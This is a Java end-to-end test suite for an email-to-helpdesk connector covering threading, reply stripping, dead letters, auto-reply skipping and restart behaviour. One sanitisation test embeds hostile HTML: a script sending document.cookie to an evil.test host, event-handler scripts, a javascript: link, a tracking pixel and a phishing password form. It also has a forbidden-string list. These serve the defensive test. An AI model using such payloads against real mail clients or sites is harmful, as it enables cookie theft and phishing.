package dev.omnibridge.systemtest;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.icegreen.greenmail.junit5.GreenMailExtension;
import dev.omnibridge.systemtest.support.CustomerMail;
import dev.omnibridge.systemtest.support.HubConfig;
import dev.omnibridge.systemtest.support.HubProcess;
import dev.omnibridge.systemtest.support.Json;
import dev.omnibridge.systemtest.support.MailServers;
import dev.omnibridge.systemtest.support.Mailer;
import dev.omnibridge.systemtest.support.Poll;
import dev.omnibridge.systemtest.support.ReceivedMail;
import dev.omnibridge.systemtest.support.ReceivedRequest;
import dev.omnibridge.systemtest.support.SystemTestBase;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.RegisterExtension;

import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.StreamSupport;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The email connector end to end: GreenMail in the test JVM is the real IMAP/SMTP server of the support mailbox
 * ({@value #SUPPORT}) and of the customers' mailboxes; the packaged hub polls it over IMAP as instance {@value #MAIL}
 * (routed to the webhook desk, WireMock) and sends agent replies through its SMTP. Customers' mails are handed to
 * GreenMail's SMTP exactly as a mail client would. Every test uses its own subjects and Message-IDs; the restart test
 * runs last because it needs the history of the others.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class EmailChannelTest extends SystemTestBase {
    private static final String MAIL = "mail";
    private static final String SUPPORT = "support@acme.test";
    private static final String SUPPORT_PASSWORD = "support-imap-password";
    private static final String ANN = "ann@customer.test";
    private static final String ANN_NAME = "Ann Customer";
    private static final String BOB = "bob@customer.test";
    private static final String BOB_NAME = "Bob Other";
    private static final Duration ARRIVAL = Duration.ofSeconds(20);
    /** Several poll intervals (1 s): what the hub would have imported or sent by then, it has. */
    private static final Duration QUIET = Duration.ofSeconds(3);
    private static final String DEAD_LETTERS = "/api/dead-letters";
    private static final String INBOUND_DEAD_LETTERS = "inboundDeadLetters";
    private static final String SKIPPED = "/api/skipped";

    @RegisterExtension
    static final GreenMailExtension MAIL_SERVER = MailServers.server(SUPPORT, SUPPORT_PASSWORD, ANN, BOB);

    private Mailer customers;

    @Override
    protected HubProcess startHub() {
        customers = new Mailer(MailServers.HOST, MAIL_SERVER.getSmtp().getPort());
        return startHubWith("email");
    }

    @Override
    protected HubConfig config() {
        Map<String, Object> settings = MailServers.emailInstance(MAIL_SERVER, SUPPORT, SUPPORT_PASSWORD);
        settings.put("idle", true);
        return standardConfig()
                .instance(MAIL, "email", settings)
                .route(MAIL, DESK);
    }

    @BeforeAll
    void mailInstanceIsRunning() {
        awaitMailInstanceRunning();
    }

    // 1
    @Test
    @Order(1)
    void newMailOpensOneTicketAtTheDeskWithSubjectTextAndSender() throws Exception {
        String subject = "Bestellung nicht angekommen – Müller";
        CustomerMail mail = CustomerMail.from(ANN_NAME, ANN).subject(subject)
                .text("Hello,\nmy parcel 4711 has not arrived yet.\nAnn");
        send(mail);

        ReceivedRequest event = awaitDeskMessage(mail.messageId());
        assertThat(event.signedWith(DESK_SECRET)).as("desk request signed").isTrue();
        assertThat(event.text("/schema")).isEqualTo("omnibridge.desk-event/v1");
        assertThat(event.text("/event")).isEqualTo("message.created");
        assertThat(event.ticketRef()).as("first message of a new conversation").isNull();
        assertThat(event.text("/conversation/channel/type")).isEqualTo("email");
        assertThat(event.text("/conversation/channel/instanceId")).isEqualTo(MAIL);
        assertThat(event.threadKey()).as("reference token of a new conversation").matches("[A-Z2-7]{8}");
        assertThat(event.text("/message/direction")).isEqualTo("INBOUND");
        assertThat(event.text("/message/channel/type")).isEqualTo("email");
        assertThat(event.text("/message/channel/instanceId")).isEqualTo(MAIL);
        assertThat(event.channelMessageId()).isEqualTo(mail.messageId());
        assertThat(event.text("/message/subject")).as("decoded subject").isEqualTo(subject);
        assertThat(normalise(event.text("/message/text")))
                .isEqualTo("Hello,\nmy parcel 4711 has not arrived yet.\nAnn");
        assertThat(event.text("/message/author/role")).isEqualTo("CUSTOMER");
        assertThat(event.text("/message/author/address/kind")).isEqualTo("EMAIL");
        assertThat(event.text("/message/author/address/value")).isEqualTo(ANN);
        assertThat(event.text("/message/author/displayName")).isEqualTo(ANN_NAME);

        awaitQuiet(desk, Duration.ofSeconds(2));
        assertThat(deskRequestsForMessage(mail.messageId())).as("one desk event for the mail").hasSize(1);
        assertThat(deskRequestsFor(event.threadKey())).as("desk events of the new conversation").hasSize(1);
    }

    // 2
    @Test
    @Order(2)
    void customersGmailStyleReplyJoinsTheTicketWithoutTheQuotedHistory() throws Exception {
        String subject = "Parcel missing " + shortId();
        CustomerMail first = CustomerMail.from(ANN_NAME, ANN).subject(subject).text("My parcel has not arrived.\nPlease help.");
        send(first);
        ReceivedRequest opened = awaitDeskMessage(first.messageId());

        String newText = "Thanks! The order number is 4711 and the parcel never arrived.";
        CustomerMail reply = CustomerMail.from(ANN_NAME, ANN).subject("Re: " + subject)
                .inReplyTo(first.messageId()).references(first.messageId())
                .text(newText + "\n\nOn Tue, 4 Mar 2025 at 09:15, " + ANN_NAME + " <" + ANN + "> wrote:\n"
                        + "> My parcel has not arrived.\n> Please help.\n")
                .html("<div dir=\"ltr\">" + newText + "</div><br><div class=\"gmail_quote\"><div dir=\"ltr\" "
                        + "class=\"gmail_attr\">On Tue, 4 Mar 2025 at 09:15, " + ANN_NAME + " &lt;<a href=\"mailto:" + ANN
                        + "\">" + ANN + "</a>&gt; wrote:<br></div><blockquote class=\"gmail_quote\" style=\"margin:0px 0px "
                        + "0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\">My parcel has not arrived."
                        + "<br>Please help.</blockquote></div>");
        send(reply);

        ReceivedRequest followUp = awaitDeskMessage(reply.messageId());
        assertThat(followUp.conversationId()).as("same conversation").isEqualTo(opened.conversationId());
        assertThat(followUp.threadKey()).as("same thread key").isEqualTo(opened.threadKey());
        assertThat(followUp.ticketRef()).as("same ticket").isEqualTo(ticketOf(opened));
        String text = followUp.text("/message/text");
        assertThat(text).as("quoted history stripped")
                .doesNotContain("wrote:").doesNotContain("My parcel has not arrived").doesNotContain("Please help")
                .doesNotContain(">");
        assertThat(text.strip()).isEqualTo(newText);
        assertThat(followUp.text("/message/author/address/value")).isEqualTo(ANN);
    }

    // 3
    @Test
    @Order(3)
    void agentReplyIsMailedToTheCustomerAndHerAnswerToItJoinsTheConversation() throws Exception {
        String subject = "Damaged blender " + shortId();
        CustomerMail first = CustomerMail.from(ANN_NAME, ANN).subject(subject).text("The blender arrived broken.");
        send(first);
        ReceivedRequest opened = awaitDeskMessage(first.messageId());
        String token = opened.threadKey();
        CustomerMail second = CustomerMail.from(ANN_NAME, ANN).subject("Re: " + subject)
                .inReplyTo(first.messageId()).references(first.messageId())
                .text("Photos are on the way.");
        send(second);
        assertThat(awaitDeskMessage(second.messageId()).conversationId()).isEqualTo(opened.conversationId());

        String replyText = "Hello Ann, we are sending a replacement today.";
        accepted(postDeskReply(agentReply(ticketOf(opened), "email-agent-" + shortId(), replyText,
                "<p>Hello Ann, we are sending a <b>replacement</b> today.</p>")));

        ReceivedMail agentMail = awaitMailTo(ANN, token);
        assertThat(agentMail.from().getPersonal()).as("From display name").isEqualTo("Acme Support");
        assertThat(agentMail.from().getAddress()).isEqualTo(SUPPORT);
        assertThat(agentMail.to()).containsExactly(ANN);
        assertThat(agentMail.subject()).isEqualTo("Re: " + subject + " [#" + token + "]");
        assertThat(agentMail.header("In-Reply-To")).as("answers the customer's latest mail")
                .isEqualTo(CustomerMail.bracket(second.messageId()));
        assertThat(agentMail.header("References")).as("References")
                .contains(CustomerMail.bracket(first.messageId()))
                .contains(CustomerMail.bracket(second.messageId()));
        assertThat(agentMail.messageId()).isNotBlank();
        assertThat(agentMail.contentType()).isEqualTo("multipart/alternative");
        List<ReceivedMail.Leaf> parts = agentMail.topLevelParts();
        assertThat(parts).extracting(ReceivedMail.Leaf::type).containsExactly("text/plain", "text/html");
        assertThat(parts.get(0).content()).contains(replyText);
        assertThat(parts.get(1).content()).contains("<b>replacement</b>");

        // Ann answers the agent's mail the way a mail client does.
        CustomerMail answer = CustomerMail.from(ANN_NAME, ANN).subject(agentMail.subject())
                .inReplyTo(agentMail.messageId())
                .references(first.messageId(), second.messageId(), agentMail.messageId())
                .text("Great, thank you!\n\nOn Wed, 5 Mar 2025 at 10:00, Acme Support <" + SUPPORT + "> wrote:\n> "
                        + replyText + "\n");
        send(answer);
        ReceivedRequest answered = awaitDeskMessage(answer.messageId());
        assertThat(answered.conversationId()).as("answer to the agent's mail joins the conversation")
                .isEqualTo(opened.conversationId());
        assertThat(answered.ticketRef()).isEqualTo(ticketOf(opened));
        assertThat(answered.text("/message/text").strip()).isEqualTo("Great, thank you!");

        awaitQuiet(desk, Duration.ofSeconds(1));
        assertThat(deskRequestsFor(token)).as("the agent's own reply is not echoed to the desk")
                .extracting(ReceivedRequest::channelMessageId)
                .containsExactly(first.messageId(), second.messageId(), answer.messageId());
        assertThat(mailsTo(ANN, token)).as("one mail per agent reply").hasSize(1);
    }

    // 4
    @Test
    @Order(4)
    void mailFromAnotherSenderIsNotThreadedIntoSomeoneElsesConversation() throws Exception {
        String subject = "Invoice question " + shortId();
        CustomerMail anns = CustomerMail.from(ANN_NAME, ANN).subject(subject).text("Why was I charged twice?");
        send(anns);
        ReceivedRequest annsEvent = awaitDeskMessage(anns.messageId());
        String token = annsEvent.threadKey();

        CustomerMail bobQuotesToken = CustomerMail.from(BOB_NAME, BOB).subject("Re: " + subject + " [#" + token + "]")
                .text("I want to see Ann's invoice too.");
        CustomerMail bobReferencesAnn = CustomerMail.from(BOB_NAME, BOB).subject("Re: " + subject)
                .inReplyTo(anns.messageId()).references(anns.messageId())
                .text("Me too, show me that conversation.");
        send(bobQuotesToken);
        send(bobReferencesAnn);

        for (CustomerMail bobs : List.of(bobQuotesToken, bobReferencesAnn)) {
            ReceivedRequest event = awaitDeskMessage(bobs.messageId());
            assertThat(event.conversationId()).as("conversation of %s", bobs.messageId())
                    .isNotEqualTo(annsEvent.conversationId());
            assertThat(event.threadKey()).as("thread key of %s", bobs.messageId()).isNotEqualTo(token)
                    .matches("[A-Z2-7]{8}");
            assertThat(event.ticketRef()).as("a new ticket for %s", bobs.messageId()).isNull();
            assertThat(event.text("/message/author/address/value")).isEqualTo(BOB);
        }
        assertThat(deskRequestsFor(token)).extracting(ReceivedRequest::channelMessageId)
                .as("Ann's conversation holds only Ann's mail").containsExactly(anns.messageId());
    }

    // 5
    @Test
    @Order(5)
    void hostileHtmlIsSanitisedBeforeItReachesTheDesk() throws Exception {
        CustomerMail hostile = CustomerMail.from(ANN_NAME, ANN).subject("Newsletter " + shortId()).html("""
                <html><head><script>alert('head')</script></head>
                <body onload="alert('load')">
                <p>Hello <b>support</b>, see Order 4711.</p>
                <script>document.location='https://evil.test/steal?c='+document.cookie</script>
                <img src="cid:logo" onerror="alert('img')">
                <a href="javascript:alert('link')">click me</a>
                <img src="https://tracker.evil.test/pixel.gif?u=ann" width="1" height="1">
                <form action="https://evil.test/phish" method="post"><input type="password" name="pw"><button>Login</button></form>
                <p onclick="alert('p')" style="color:red">Kind regards</p>
                </body></html>
                """);
        send(hostile);

        ReceivedRequest event = awaitDeskMessage(hostile.messageId());
        String html = event.text("/message/html");
        String text = event.text("/message/text");
        assertThat(html).as("sanitised html").isNotNull().contains("Order 4711").contains("Kind regards");
        assertThat(text).as("text from the html").contains("Order 4711").contains("Kind regards");
        String rawBody = event.event().getRequest().getBodyAsString().toLowerCase(Locale.ROOT);
        for (String forbidden : List.of("<script", "alert(", "document.cookie", "onerror", "onload", "onclick",
                "javascript:", "tracker.evil.test", "pixel.gif", "<form", "evil.test/phish", "<input")) {
            assertThat(rawBody).as("raw desk request body must not contain %s", forbidden).doesNotContain(forbidden);
            assertThat(html.toLowerCase(Locale.ROOT)).as("html must not contain %s", forbidden).doesNotContain(forbidden);
            assertThat(text.toLowerCase(Locale.ROOT)).as("text must not contain %s", forbidden).doesNotContain(forbidden);
        }
    }

    // 6
    @Test
    @Order(6)
    void malformedMimeIsDeadLetteredAndTheMailsAfterItKeepFlowing() throws Exception {
        Set<Long> before = ids(listed(DEAD_LETTERS, INBOUND_DEAD_LETTERS));
        String brokenId = "broken-" + shortId() + "@mail.customer.test";
        customers.sendRaw("""
                From: Ann Customer <ann@customer.test>
                To: support@acme.test
                Subject: Broken structure
                Message-ID: <%s>
                Date: Wed, 5 Mar 2025 10:00:00 +0000
                MIME-Version: 1.0
                Content-Type: multipart/mixed

                This claims to be multipart/mixed but has no boundary parameter
                and no boundary lines at all.
                """.formatted(brokenId), SUPPORT);
        CustomerMail good = CustomerMail.from(ANN_NAME, ANN).subject("After the broken one " + shortId())
                .text("This one is fine.");
        send(good);

        ReceivedRequest event = awaitDeskMessage(good.messageId());
        assertThat(normalise(event.text("/message/text"))).isEqualTo("This one is fine.");
        assertThat(event.ticketRef()).isNull();
        List<JsonNode> deadLetters = awaitNewEntries(DEAD_LETTERS, INBOUND_DEAD_LETTERS, before);
        assertThat(deadLetters).as("new inbound dead letters of " + MAIL).hasSize(1);
        JsonNode deadLetter = deadLetters.get(0);
        assertThat(Json.text(deadLetter, "/sourceId")).as("sourceId of " + deadLetter).isNotBlank();
        assertThat(Json.text(deadLetter, "/reason")).as("reason of " + deadLetter).isNotBlank();
        assertThat(Json.text(deadLetter, "/original")).as("original of " + deadLetter).matches("attachment:[0-9a-f]{64}");
        assertThat(Json.text(deadLetter, "/failedAt")).as("failedAt of " + deadLetter).isNotBlank();
        assertThat(deskRequestsForMessage(brokenId)).as("no desk event for the malformed mail").isEmpty();
    }

    // 7
    @Test
    @Order(7)
    void autoReplyOpensNoTicketAndIsListedAsSkipped() throws Exception {
        Set<Long> skippedBefore = ids(listed(SKIPPED, "skipped"));
        Set<Long> deadLettersBefore = ids(listed(DEAD_LETTERS, INBOUND_DEAD_LETTERS));
        CustomerMail outOfOffice = CustomerMail.from(ANN_NAME, ANN).subject("Automatic reply: I am out of office")
                .header("Auto-Submitted", "auto-replied")
                .text("I am out of the office until Monday.");
        CustomerMail sentinel = CustomerMail.from(ANN_NAME, ANN).subject("Real question " + shortId())
                .text("Back in the office: where is my refund?");
        send(outOfOffice);
        send(sentinel);

        // Mails of a folder are imported in order: once the later mail is at the desk, the auto-reply was handled.
        awaitDeskMessage(sentinel.messageId());
        List<JsonNode> skipped = awaitNewEntries(SKIPPED, "skipped", skippedBefore);
        awaitQuiet(desk, Duration.ofSeconds(1));
        assertThat(deskRequestsForMessage(outOfOffice.messageId())).as("no desk event for the auto-reply").isEmpty();
        assertThat(skipped).as("new skipped entries of " + MAIL).hasSize(1);
        JsonNode entry = skipped.get(0);
        assertThat(CustomerMail.unbracket(String.valueOf(Json.text(entry, "/sourceId"))))
                .as("sourceId of " + entry).isEqualTo(outOfOffice.messageId());
        assertThat(Json.text(entry, "/reason")).as("reason of " + entry).isNotBlank();
        assertThat(Json.text(entry, "/at")).as("at of " + entry).isNotBlank();
        assertThat(listed(DEAD_LETTERS, INBOUND_DEAD_LETTERS)).extracting(e -> e.path("id").asLong())
                .as("an auto-reply is not a dead letter").containsExactlyInAnyOrderElementsOf(deadLettersBefore);
    }

    // 8
    @Test
    @Order(8)
    void restartedHubImportsAndSendsNothingAgainButPicksUpNewMail() throws Exception {
        // History right before the restart: an inbound mail and an agent reply mailed out.
        String subject = "Before restart " + shortId();
        CustomerMail before = CustomerMail.from(ANN_NAME, ANN).subject(subject).text("Question before the restart.");
        send(before);
        ReceivedRequest opened = awaitDeskMessage(before.messageId());
        awaitTicketLinked(opened);
        accepted(postDeskReply(agentReply(ticketOf(opened), "email-restart-" + shortId(), "Answer before the restart.",
                "<p>Answer before the restart.</p>")));
        awaitMailTo(ANN, opened.threadKey());
        awaitQuiet(desk, Duration.ofSeconds(1));

        List<String> deskMessagesBefore = mailDeskMessageIds();
        int mailboxBefore = MAIL_SERVER.getReceivedMessages().length;

        hub.restart();
        awaitMailInstanceRunning();
        awaitQuiet(desk, QUIET);
        assertThat(mailDeskMessageIds()).as("nothing re-imported after the restart").isEqualTo(deskMessagesBefore);
        assertThat(MAIL_SERVER.getReceivedMessages()).as("no mail sent again after the restart").hasSize(mailboxBefore);

        CustomerMail after = CustomerMail.from(ANN_NAME, ANN).subject("After restart " + shortId())
                .text("Question after the restart.");
        send(after);
        ReceivedRequest event = awaitDeskMessage(after.messageId());
        assertThat(event.ticketRef()).isNull();
        awaitQuiet(desk, Duration.ofSeconds(1));
        List<String> deskMessagesAfter = mailDeskMessageIds();
        assertThat(deskMessagesAfter).as("only the new mail was imported after the restart")
                .hasSize(deskMessagesBefore.size() + 1)
                .endsWith(after.messageId());
        assertThat(Set.copyOf(deskMessagesAfter)).as("no mail reached the desk twice").hasSameSizeAs(deskMessagesAfter);
        assertThat(MAIL_SERVER.getReceivedMessages()).as("support inbox got the new mail, nobody got a re-sent one")
                .hasSize(mailboxBefore + 1);
    }

    // --- helpers

    private void send(CustomerMail mail) {
        customers.send(mail.build(customers.session()));
    }

    private void awaitMailInstanceRunning() {
        Poll.until(Duration.ofSeconds(30), MAIL + " is RUNNING",
                () -> hub.http().health().at("/instances/" + MAIL + "/state").asText().equals("RUNNING"));
    }

    /** Desk requests carrying the mail with this Message-ID (without brackets). */
    private List<ReceivedRequest> deskRequestsForMessage(String messageId) {
        return deskRequests().stream().filter(r -> messageId.equals(r.channelMessageId())).toList();
    }

    /** Waits until the desk has accepted the mail with this Message-ID and returns that request. */
    private ReceivedRequest awaitDeskMessage(String messageId) {
        try {
            Poll.until(ARRIVAL, "the desk has accepted the mail " + messageId, () -> deskRequestsForMessage(messageId)
                    .stream().anyMatch(r -> r.event().getResponse().getStatus() / 100 == 2));
        } catch (AssertionError e) {
            throw new AssertionError(e.getMessage() + "; mail instance: " + hub.http().health().path("instances").path(MAIL)
                    + "; desk received message ids " + mailDeskMessageIds(), e);
        }
        return deskRequestsForMessage(messageId).stream().filter(r -> r.event().getResponse().getStatus() / 100 == 2)
                .findFirst().orElseThrow();
    }

    /** Channel message ids of the mail instance's messages at the desk, in the order the desk received them. */
    private List<String> mailDeskMessageIds() {
        return deskRequests().stream().filter(r -> MAIL.equals(r.text("/message/channel/instanceId")))
                .map(ReceivedRequest::channelMessageId).toList();
    }

    /** Mails in {@code address}'s mailbox whose subject carries {@code [#token]}. */
    private List<ReceivedMail> mailsTo(String address, String token) {
        return MAIL_SERVER.findReceivedMessages(user -> user.getEmail().equals(address), message -> true)
                .map(ReceivedMail::new)
                .filter(mail -> mail.subject() != null && mail.subject().contains("[#" + token + "]"))
                .toList();
    }

    private ReceivedMail awaitMailTo(String address, String token) {
        try {
            Poll.until(ARRIVAL, "a mail with [#" + token + "] arrives in " + address + "'s mailbox",
                    () -> !mailsTo(address, token).isEmpty());
        } catch (AssertionError e) {
            String mailbox = MAIL_SERVER.findReceivedMessages(user -> user.getEmail().equals(address), message -> true)
                    .map(m -> new ReceivedMail(m).summary()).collect(Collectors.joining("\n  "));
            throw new AssertionError(e.getMessage() + "; mailbox of " + address + ":\n  " + mailbox
                    + "\noutbound dead letters: " + deadLetters(), e);
        }
        return mailsTo(address, token).get(0);
    }

    /** The entries of the mail instance in the admin list {@code path -> field}. */
    private List<JsonNode> listed(String path, String field) {
        JsonNode list = hub.http().adminJson(path).path(field);
        assertThat(list.isArray()).as(path + " " + field + " is a JSON array: " + list).isTrue();
        return StreamSupport.stream(list.spliterator(), false)
                .filter(e -> MAIL.equals(Json.text(e, "/instance"))).toList();
    }

    /** Waits until the admin list {@code path -> field} has entries of the mail instance not in {@code before}. */
    private List<JsonNode> awaitNewEntries(String path, String field, Set<Long> before) {
        try {
            Poll.until(ARRIVAL, "a new entry of " + MAIL + " is listed in " + path + " " + field,
                    () -> listed(path, field).stream().anyMatch(e -> !before.contains(e.path("id").asLong())));
        } catch (AssertionError e) {
            throw new AssertionError(e.getMessage() + "; " + path + " answers " + hub.http().admin("GET", path).body(), e);
        }
        return listed(path, field).stream().filter(e -> !before.contains(e.path("id").asLong())).toList();
    }

    private static Set<Long> ids(List<JsonNode> entries) {
        return entries.stream().map(e -> e.path("id").asLong()).collect(Collectors.toSet());
    }

    private static String ticketOf(ReceivedRequest firstEvent) {
        return "T-" + firstEvent.conversationId();
    }

    private static String agentReply(String ticketRef, String replyId, String text, String html) {
        ObjectNode reply = Json.object().put("ticketRef", ticketRef).put("replyId", replyId);
        reply.putObject("author").put("role", "AGENT").put("displayName", "Alice");
        reply.put("text", text).put("html", html).put("internal", false);
        return Json.write(reply);
    }

    private static void accepted(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(describe(response)).isBetween(200, 299);
    }

    private static String normalise(String text) {
        return text == null ? null : text.replace("\r\n", "\n").strip();
    }

    private static String shortId() {
        return UUID.randomUUID().toString().substring(0, 8);
    }
}
